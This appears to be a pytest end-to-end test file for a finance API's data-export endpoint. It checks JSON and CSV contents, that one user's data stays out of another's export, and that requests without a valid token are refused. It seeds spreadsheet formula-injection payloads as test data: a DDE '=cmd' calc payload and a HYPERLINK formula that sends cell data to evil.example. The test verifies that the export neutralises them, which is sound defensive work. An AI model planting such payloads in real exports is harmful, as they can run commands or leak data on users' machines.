"""GET /profile/export: everything of the user's, as JSON or as a CSV of the
transactions, streamed through nginx; checked against what the rest of the
API and the database say."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import uuid
import zoneinfo
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from decimal import Decimal
from typing import Any

import httpx
import pytest
from sqlalchemy import text
from sqlalchemy.ext.asyncio import create_async_engine

from tests.conftest import StackInfo
from tests.e2e.conftest import User, assert_problem, register_and_login

CSV_HEADER = [
    "id",
    "date",
    "type",
    "account_id",
    "account_name",
    "amount",
    "currency",
    "to_account_id",
    "to_account_name",
    "to_amount",
    "to_currency",
    "category_id",
    "category_name",
    "description",
    "notes",
    "tags",
    "created_at",
    "updated_at",
    "splits",
]
TIMEZONE = "Pacific/Kiritimati"  # UTC+14: its date differs from UTC's most of the day
INJECTED_CATEGORY = "=cmd|' /C calc'!A0"


# ---------------------------------------------------------------- helpers


async def _run_sql(
    stack: StackInfo, statements: Sequence[tuple[str, Mapping[str, Any]]]
) -> list[list[Any]]:
    """Run statements in one database transaction; the rows each returned."""
    engine = create_async_engine(stack.database_url)
    try:
        async with engine.begin() as conn:
            results = []
            for sql, params in statements:
                result = await conn.execute(text(sql), dict(params))
                results.append(list(result) if result.returns_rows else [])
            return results
    finally:
        await engine.dispose()


def sql(stack: StackInfo, *statements: tuple[str, Mapping[str, Any]]) -> list[list[Any]]:
    return asyncio.run(_run_sql(stack, statements))


def _account(
    api: httpx.Client, user: User, name: str, currency: str, opening: str = "0"
) -> dict[str, Any]:
    response = api.post(
        "/services/accounts",
        headers=user.headers,
        json={"name": name, "type": "checking", "currency": currency, "opening_balance": opening},
    )
    assert response.status_code == 201, response.text
    body: dict[str, Any] = response.json()
    return body


def _post(api: httpx.Client, user: User, body: Mapping[str, object]) -> dict[str, Any]:
    response = api.post("/services/transactions", headers=user.headers, json=body)
    assert response.status_code == 201, response.text
    posted: dict[str, Any] = response.json()
    return posted


def _export(api: httpx.Client, user: User, fmt: str | None = None) -> httpx.Response:
    params = {"format": fmt} if fmt else {}
    response = api.get("/profile/export", headers=user.headers, params=params)
    assert response.status_code == 200, response.text
    return response


def _csv_rows(response: httpx.Response) -> list[dict[str, str]]:
    reader = csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline=""))
    assert reader.fieldnames == CSV_HEADER
    return list(reader)


def _user_id(api: httpx.Client, user: User) -> str:
    return str(api.get("/profile", headers=user.headers).json()["id"])


def _local_dates(timezone: str, before: dt.datetime, after: dt.datetime) -> set[str]:
    zone = zoneinfo.ZoneInfo(timezone)
    return {before.astimezone(zone).date().isoformat(), after.astimezone(zone).date().isoformat()}


@dataclass
class Ledger:
    """A user's ledger with a bit of everything, and what was posted."""

    user: User
    user_id: str
    usd: dict[str, Any]
    eur: dict[str, Any]
    jpy: dict[str, Any]
    bhd: dict[str, Any]
    categories: dict[str, str]  # name -> id
    lunch: dict[str, Any]
    split: dict[str, Any]
    transfer: dict[str, Any]
    salary: dict[str, Any]
    dinar: dict[str, Any]
    injected: dict[str, Any]
    budgets: list[str]

    @property
    def posted(self) -> list[dict[str, Any]]:
        return [
            self.lunch,
            self.split,
            self.transfer,
            self.salary,
            self.dinar,
            self.injected,
        ]


@pytest.fixture
def ledger(api: httpx.Client, stack: StackInfo) -> Ledger:
    user = register_and_login(api)
    patched = api.patch("/profile", headers=user.headers, json={"timezone": TIMEZONE})
    assert patched.status_code == 200, patched.text
    user_id = _user_id(api, user)
    usd = _account(api, user, "Everyday", "USD", opening="1000.00")
    eur = _account(api, user, "Euro savings", "EUR")
    jpy = _account(api, user, "-Yen wallet", "JPY", opening="5000")
    bhd = _account(api, user, "Dinar", "BHD")
    injected_category = str(uuid.uuid4())
    rows = sql(
        stack,
        (
            "INSERT INTO categories (id, user_id, name, kind) VALUES (:id, :u, :name, 'expense')",
            {"id": injected_category, "u": user_id, "name": INJECTED_CATEGORY},
        ),
        ("SELECT name, id FROM categories WHERE user_id = :u", {"u": user_id}),
    )
    categories = {name: str(id_) for name, id_ in rows[1]}
    lunch = _post(
        api,
        user,
        {
            "type": "expense",
            "account_id": usd["id"],
            "amount": "12.3",
            "date": "2026-11-20",
            "description": "Lunch - café ☕",
            "category_id": categories["Restaurants"],
            "tags": ["work", "food"],
            "notes": "with Ana",
        },
    )
    split = _post(
        api,
        user,
        {
            "type": "expense",
            "account_id": usd["id"],
            "amount": "80.00",
            "date": "2026-11-21",
            "description": "Supermarket",
            "splits": [
                {"category_id": categories["Groceries"], "amount": "60.00"},
                {
                    "category_id": categories["Electronics"],
                    "amount": "20",
                    "description": "Batteries",
                },
            ],
        },
    )
    transfer = _post(
        api,
        user,
        {
            "type": "transfer",
            "account_id": usd["id"],
            "to_account_id": eur["id"],
            "amount": "100.00",
            "to_amount": "92.35",
            "date": "2026-11-22",
            "description": "To my EUR account",
        },
    )
    salary = _post(
        api,
        user,
        {
            "type": "income",
            "account_id": jpy["id"],
            "amount": "1500",
            "date": "2026-11-19",
            "category_id": categories["Salary"],
        },
    )
    dinar = _post(
        api,
        user,
        {"type": "expense", "account_id": bhd["id"], "amount": "1.25", "date": "2026-11-18"},
    )
    injected = _post(
        api,
        user,
        {
            "type": "expense",
            "account_id": jpy["id"],
            "amount": "700",
            "date": "2026-11-17",
            "description": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            "notes": "+1-555-0100",
            "tags": ["@risky", "-minus"],
            "category_id": injected_category,
        },
    )
    budgets = [str(uuid.uuid4()), str(uuid.uuid4())]
    sql(
        stack,
        (
            "INSERT INTO budgets (id, user_id, category_id, amount, currency)"
            " VALUES (:id, :u, :c, :amount, :currency)",
            {
                "id": budgets[0],
                "u": user_id,
                "c": categories["Groceries"],
                "amount": Decimal("250.5"),
                "currency": "USD",
            },
        ),
        (
            "INSERT INTO budgets (id, user_id, category_id, amount, currency)"
            " VALUES (:id, :u, :c, :amount, :currency)",
            {
                "id": budgets[1],
                "u": user_id,
                "c": categories["Restaurants"],
                "amount": Decimal(30000),
                "currency": "JPY",
            },
        ),
    )
    return Ledger(
        user=user,
        user_id=user_id,
        usd=usd,
        eur=eur,
        jpy=jpy,
        bhd=bhd,
        categories=categories,
        lunch=lunch,
        split=split,
        transfer=transfer,
        salary=salary,
        dinar=dinar,
        injected=injected,
        budgets=budgets,
    )


# ---------------------------------------------------------------- JSON


def test_json_export_holds_everything_in_the_api_s_own_shapes(
    api: httpx.Client, stack: StackInfo, ledger: Ledger
) -> None:
    user = ledger.user
    before = dt.datetime.now(dt.UTC)
    response = _export(api, user)
    after = dt.datetime.now(dt.UTC)

    assert response.headers["content-type"] == "application/json"
    assert "no-store" in response.headers["cache-control"]
    dates = _local_dates(TIMEZONE, before, after)
    assert response.headers["content-disposition"] in {
        f'attachment; filename="finledger-export-{d}.json"' for d in dates
    }
    body = response.json()
    assert set(body) == {
        "profile",
        "accounts",
        "categories",
        "transactions",
        "budgets",
        "exported_at",
    }
    assert body["profile"] == api.get("/profile", headers=user.headers).json()
    assert body["profile"]["timezone"] == TIMEZONE
    exported_at = dt.datetime.fromisoformat(body["exported_at"])
    assert exported_at.tzinfo is not None
    assert before - dt.timedelta(seconds=1) <= exported_at <= after

    # accounts: exactly what GET /services/accounts lists, with exact balances
    listed = api.get("/services/accounts", headers=user.headers).json()["items"]
    assert body["accounts"] == listed
    accounts = {a["id"]: a for a in body["accounts"]}
    assert list(accounts) == [
        ledger.usd["id"],
        ledger.eur["id"],
        ledger.jpy["id"],
        ledger.bhd["id"],
    ]
    usd, eur, jpy, bhd = (
        accounts[a["id"]] for a in (ledger.usd, ledger.eur, ledger.jpy, ledger.bhd)
    )
    assert (usd["opening_balance"], usd["balance"]) == ("1000.00", "807.70")
    assert (eur["opening_balance"], eur["balance"]) == ("0.00", "92.35")
    assert (jpy["opening_balance"], jpy["balance"]) == ("5000", "5800")
    assert (bhd["opening_balance"], bhd["balance"]) == ("0.000", "-1.250")

    # transactions: every one, newest first, as GET /services/transactions shows them
    shown = api.get("/services/transactions", headers=user.headers, params={"limit": 200})
    assert body["transactions"] == shown.json()["items"]
    assert [t["id"] for t in body["transactions"]] == [
        t["id"]
        for t in (
            ledger.transfer,
            ledger.split,
            ledger.lunch,
            ledger.salary,
            ledger.dinar,
            ledger.injected,
        )
    ]
    transactions = {t["id"]: t for t in body["transactions"]}
    for posted in ledger.posted:
        assert transactions[posted["id"]] == posted
    lunch = transactions[ledger.lunch["id"]]
    assert (lunch["amount"], lunch["currency"]) == ("12.30", "USD")
    assert lunch["description"] == "Lunch - café ☕"
    assert lunch["tags"] == ["work", "food"]
    split = transactions[ledger.split["id"]]
    assert split["category_id"] is None
    assert split["splits"] == [
        {"category_id": ledger.categories["Groceries"], "amount": "60.00", "description": ""},
        {
            "category_id": ledger.categories["Electronics"],
            "amount": "20.00",
            "description": "Batteries",
        },
    ]
    transfer = transactions[ledger.transfer["id"]]
    assert (transfer["amount"], transfer["currency"]) == ("100.00", "USD")
    assert (transfer["to_account_id"], transfer["to_amount"], transfer["to_currency"]) == (
        ledger.eur["id"],
        "92.35",
        "EUR",
    )
    assert transactions[ledger.salary["id"]]["amount"] == "1500"
    assert transactions[ledger.dinar["id"]]["amount"] == "1.250"
    # JSON is data, not a spreadsheet: text is exported exactly as written
    assert transactions[ledger.injected["id"]]["description"].startswith("=HYPERLINK(")

    # the opening balances are on the accounts, not among the transactions
    assert {t["type"] for t in body["transactions"]} == {"expense", "income", "transfer"}
    openings = sql(
        stack,
        (
            "SELECT id::text, amount FROM transactions WHERE user_id = :u AND type = 'opening'",
            {"u": ledger.user_id},
        ),
    )[0]
    assert len(openings) == 2
    for opening_id, _ in openings:
        assert opening_id not in response.text

    # categories: every one of the user's, defaults included, parents linked
    stored = sql(
        stack,
        (
            "SELECT id::text, name, kind, parent_id::text FROM categories"
            " WHERE user_id = :u ORDER BY seq",
            {"u": ledger.user_id},
        ),
    )[0]
    assert [(c["id"], c["name"], c["kind"], c["parent_id"]) for c in body["categories"]] == [
        tuple(row) for row in stored
    ]
    for category in body["categories"]:
        assert set(category) == {"id", "name", "kind", "parent_id", "created_at", "updated_at"}
    by_name = {c["name"]: c for c in body["categories"]}
    assert by_name["Groceries"]["parent_id"] == by_name["Food"]["id"]
    assert by_name["Food"]["parent_id"] is None
    assert by_name["Salary"]["kind"] == "income"

    # budgets, amounts in their currency's decimal places
    assert [
        (b["id"], b["category_id"], b["amount"], b["currency"], b["period"])
        for b in body["budgets"]
    ] == [
        (ledger.budgets[0], ledger.categories["Groceries"], "250.50", "USD", "monthly"),
        (ledger.budgets[1], ledger.categories["Restaurants"], "30000", "JPY", "monthly"),
    ]
    for budget in body["budgets"]:
        assert set(budget) == {
            "id",
            "category_id",
            "amount",
            "currency",
            "period",
            "created_at",
            "updated_at",
        }


def test_hidden_system_accounts_never_appear(
    api: httpx.Client, stack: StackInfo, ledger: Ledger
) -> None:
    hidden = sql(
        stack,
        (
            "SELECT id::text, system_role FROM accounts"
            " WHERE user_id = :u AND system_role IS NOT NULL",
            {"u": ledger.user_id},
        ),
    )[0]
    # the opening balances, expenses, income and the cross-currency transfer
    # all went through hidden accounts
    assert {role for _, role in hidden} == {"equity", "expense", "income", "exchange"}
    for response in (_export(api, ledger.user), _export(api, ledger.user, "csv")):
        for account_id, _ in hidden:
            assert account_id not in response.text


def test_another_user_s_data_never_appears(
    api: httpx.Client, stack: StackInfo, ledger: Ledger
) -> None:
    other = register_and_login(api)
    account = _account(api, other, "Their account", "USD", opening="55.00")
    theirs = _post(
        api,
        other,
        {
            "type": "expense",
            "account_id": account["id"],
            "amount": "9.99",
            "date": "2026-11-23",
            "description": "their secret purchase",
        },
    )
    other_id = _user_id(api, other)
    their_categories = sql(
        stack, ("SELECT id::text FROM categories WHERE user_id = :u", {"u": other_id})
    )[0]
    mine_json, mine_csv = _export(api, ledger.user), _export(api, ledger.user, "csv")
    for response in (mine_json, mine_csv):
        for secret in (other_id, account["id"], theirs["id"], "their secret purchase", other.email):
            assert secret not in response.text
        for (category_id,) in their_categories:
            assert category_id not in response.text

    # and theirs holds only their own
    body = _export(api, other).json()
    assert body["profile"]["id"] == other_id
    assert [a["id"] for a in body["accounts"]] == [account["id"]]
    assert [t["id"] for t in body["transactions"]] == [theirs["id"]]
    assert body["budgets"] == []
    assert ledger.user_id not in _export(api, other, "csv").text


# ---------------------------------------------------------------- CSV


def test_csv_has_one_row_per_transaction_with_names_and_exact_amounts(
    api: httpx.Client, ledger: Ledger
) -> None:
    before = dt.datetime.now(dt.UTC)
    response = _export(api, ledger.user, "csv")
    after = dt.datetime.now(dt.UTC)
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] in {
        f'attachment; filename="finledger-transactions-{d}.csv"'
        for d in _local_dates(TIMEZONE, before, after)
    }
    assert response.content.startswith(b"id,date,type,")  # no byte-order mark
    assert b"\r\n" in response.content  # RFC 4180 line ends

    rows = _csv_rows(response)
    json_items = _export(api, ledger.user).json()["transactions"]
    assert [r["id"] for r in rows] == [t["id"] for t in json_items]
    by_id = {r["id"]: r for r in rows}

    lunch = by_id[ledger.lunch["id"]]
    assert lunch == {
        "id": ledger.lunch["id"],
        "date": "2026-11-20",
        "type": "expense",
        "account_id": ledger.usd["id"],
        "account_name": "Everyday",
        "amount": "12.30",
        "currency": "USD",
        "to_account_id": "",
        "to_account_name": "",
        "to_amount": "",
        "to_currency": "",
        "category_id": ledger.categories["Restaurants"],
        "category_name": "Restaurants",
        "description": "Lunch - café ☕",
        "notes": "with Ana",
        "tags": "work;food",
        "created_at": ledger.lunch["created_at"],
        "updated_at": ledger.lunch["updated_at"],
        "splits": "",
    }
    split = by_id[ledger.split["id"]]
    assert (split["category_id"], split["category_name"]) == ("", "")
    assert split["amount"] == "80.00"
    assert split["splits"] == "Groceries:60.00;Electronics:20.00"

    transfer = by_id[ledger.transfer["id"]]
    assert {k: transfer[k] for k in CSV_HEADER[2:11]} == {
        "type": "transfer",
        "account_id": ledger.usd["id"],
        "account_name": "Everyday",
        "amount": "100.00",
        "currency": "USD",
        "to_account_id": ledger.eur["id"],
        "to_account_name": "Euro savings",
        "to_amount": "92.35",
        "to_currency": "EUR",
    }
    salary = by_id[ledger.salary["id"]]
    assert (salary["type"], salary["amount"], salary["currency"]) == ("income", "1500", "JPY")
    assert salary["category_name"] == "Salary"
    assert by_id[ledger.dinar["id"]]["amount"] == "1.250"


def test_csv_neutralises_formulas_in_text_cells(api: httpx.Client, ledger: Ledger) -> None:
    # a tab or carriage return first is a formula trigger too
    for i, description in enumerate(("\tTabbed", "\r=1+1")):
        _post(
            api,
            ledger.user,
            {
                "type": "expense",
                "account_id": ledger.usd["id"],
                "amount": "1.00",
                "date": "2026-11-01",
                "description": description,
                "notes": f"plain {i}",
            },
        )
    rows = _csv_rows(_export(api, ledger.user, "csv"))
    injected = next(r for r in rows if r["id"] == ledger.injected["id"])
    assert injected["description"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert injected["notes"] == "'+1-555-0100"
    assert injected["tags"] == "'@risky;-minus"
    assert injected["category_name"] == "'" + INJECTED_CATEGORY
    assert injected["account_name"] == "'-Yen wallet"
    assert injected["amount"] == "700"  # amounts are plain decimals, never prefixed
    by_notes = {r["notes"]: r for r in rows}
    assert by_notes["plain 0"]["description"] == "'\tTabbed"
    assert by_notes["plain 1"]["description"] == "'\r=1+1"
    # only the first character matters: text merely containing them is untouched
    lunch = next(r for r in rows if r["id"] == ledger.lunch["id"])
    assert lunch["description"] == "Lunch - café ☕"
    # the split cell starts with a category name, and is neutralised as a whole
    _post(
        api,
        ledger.user,
        {
            "type": "expense",
            "account_id": ledger.usd["id"],
            "amount": "3.00",
            "date": "2026-11-02",
            "notes": "split with a formula",
            "splits": [
                {"category_id": ledger.categories[INJECTED_CATEGORY], "amount": "1.00"},
                {"category_id": ledger.categories["Groceries"], "amount": "2.00"},
            ],
        },
    )
    rows = _csv_rows(_export(api, ledger.user, "csv"))
    split = next(r for r in rows if r["notes"] == "split with a formula")
    assert split["splits"] == f"'{INJECTED_CATEGORY}:1.00;Groceries:2.00"


def test_a_user_without_transactions_exports_empty_lists(api: httpx.Client) -> None:
    user = register_and_login(api)
    body = _export(api, user).json()
    assert (body["accounts"], body["transactions"], body["budgets"]) == ([], [], [])
    assert body["categories"]  # the starter categories
    response = _export(api, user, "csv")
    assert response.content == (",".join(CSV_HEADER) + "\r\n").encode()


# ---------------------------------------------------------------- many transactions


def _bulk_insert(stack: StackInfo, user_id: str, account_id: str, count: int) -> None:
    """`count` expenses of 0.01 straight into the database (the API would take
    minutes), written as db-gateway writes them: the deferred double-entry
    checks run at commit. Seven dates, so batch boundaries fall inside a day."""
    sql(
        stack,
        (
            "INSERT INTO transactions (id, user_id, type, account_id, amount, currency, date,"
            " description)"
            " SELECT gen_random_uuid(), :u, 'expense', :a, 0.01, 'USD',"
            " DATE '2026-10-01' + (n % 7), 'bulk ' || n"
            " FROM generate_series(1, :count) AS n",
            {"u": user_id, "a": account_id, "count": count},
        ),
        (
            "INSERT INTO postings (transaction_id, user_id, account_id, currency, amount)"
            " SELECT t.id, t.user_id, leg.account_id, 'USD', leg.amount"
            " FROM transactions t,"
            " (SELECT CAST(:a AS uuid) AS account_id, -0.01 AS amount"
            "  UNION ALL SELECT id, 0.01 FROM accounts"
            "  WHERE user_id = :u AND system_role = 'expense' AND currency = 'USD') AS leg"
            " WHERE t.user_id = :u AND t.description LIKE 'bulk %'",
            {"u": user_id, "a": account_id},
        ),
        (
            "INSERT INTO allocations (transaction_id, user_id, kind, amount, position, date, seq)"
            " SELECT id, user_id, 'expense', 0.01, 0, date, seq FROM transactions"
            " WHERE user_id = :u AND description LIKE 'bulk %'",
            {"u": user_id},
        ),
        (
            "UPDATE accounts SET balance = balance + 0.01 * CAST(:count AS integer)"
            " * CASE WHEN system_role IS NULL THEN -1 ELSE 1 END"
            " WHERE id = :a OR (user_id = :u AND system_role = 'expense' AND currency = 'USD')",
            {"u": user_id, "a": account_id, "count": count},
        ),
    )


def test_every_transaction_exactly_once_across_batches(api: httpx.Client, stack: StackInfo) -> None:
    user = register_and_login(api)
    user_id = _user_id(api, user)
    account = _account(api, user, "Bulk", "USD")
    # the hidden expense account the bulk rows post against
    _post(
        api,
        user,
        {"type": "expense", "account_id": account["id"], "amount": "1.00", "date": "2026-10-03"},
    )
    count = 2345  # the ledger reads 1,000 per batch: three batches
    _bulk_insert(stack, user_id, account["id"], count)
    expected = [
        row[0]
        for row in sql(
            stack,
            (
                "SELECT id::text FROM transactions WHERE user_id = :u AND type <> 'opening'"
                " ORDER BY date DESC, seq DESC",
                {"u": user_id},
            ),
        )[0]
    ]
    assert len(expected) == count + 1

    response = _export(api, user)
    # streamed, not built whole in memory first
    assert "content-length" not in response.headers
    assert response.headers.get("transfer-encoding") == "chunked"
    body = response.json()
    assert [t["id"] for t in body["transactions"]] == expected
    assert {t["amount"] for t in body["transactions"]} == {"0.01", "1.00"}
    assert body["accounts"][0]["balance"] == "-24.45"

    rows = _csv_rows(_export(api, user, "csv"))
    assert [r["id"] for r in rows] == expected
    assert {r["account_name"] for r in rows} == {"Bulk"}


# ---------------------------------------------------------------- refusals


def test_export_needs_a_valid_token(api: httpx.Client) -> None:
    for params in ({}, {"format": "csv"}):
        assert_problem(api.get("/profile/export", params=params), 401, "missing_token")
        bad = {"Authorization": "Bearer not-a-token"}
        assert_problem(api.get("/profile/export", params=params, headers=bad), 401, "invalid_token")


@pytest.mark.parametrize("fmt", ["xml", "CSV", "", "json,csv"])
def test_an_unknown_format_is_refused_naming_it(api: httpx.Client, user: User, fmt: str) -> None:
    response = api.get("/profile/export", headers=user.headers, params={"format": fmt})
    body = assert_problem(response, 422, "validation_failed")
    assert [e["field"] for e in body["errors"]] == ["format"]
